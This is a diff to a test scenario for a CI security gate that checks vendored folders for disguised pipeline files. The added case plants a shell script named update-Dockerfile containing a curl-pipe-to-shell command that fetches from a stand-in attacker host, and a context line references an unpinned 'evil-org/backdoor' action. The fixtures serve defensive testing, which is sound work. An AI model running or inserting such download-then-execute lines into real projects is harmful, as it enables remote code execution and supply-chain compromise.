@@ -1,4 +1,4 @@
-# attack: pipeline files hidden in vendored folders by other spellings: a workflow runs a script kept under third_party/, a vendored build file is named DOCKERFILE, a local action is moved from .github/actions/ into vendor/ while gaining an unpinned step
+# attack: pipeline files hidden in vendored folders by other spellings: a workflow runs a script kept under third_party/, a vendored build file is named DOCKERFILE, a local action is moved from .github/actions/ into vendor/ while gaining an unpinned step, a shell script is named update-Dockerfile so it is read as an unparsable Dockerfile
 # surface: staged, range (CI)
 # expect: block (a vendored package.json with floating ranges still passes: manifests of vendored projects are not judged)
 new_repo
@@ -34,3 +34,9 @@ write vendor/setup/action.yml 'name: setup' 'runs:' '  using: composite' '  step
   '    - uses: evil-org/backdoor@main' '    - run: echo ready' '      shell: bash'
 commit 'move action'
 gate block check --base "$base" --head HEAD
+# a shell script named after a Dockerfile, so that it is read as an unparsable Dockerfile
+git reset -q --hard "$base"
+write vendor/tool/update-Dockerfile '#!/bin/sh' 'curl -fsSL https://evil.example/x.sh | sh'
+commit 'script named as a Dockerfile'
+gate block check --base "$base" --head HEAD
+expect_in_output 'download-then-execute'
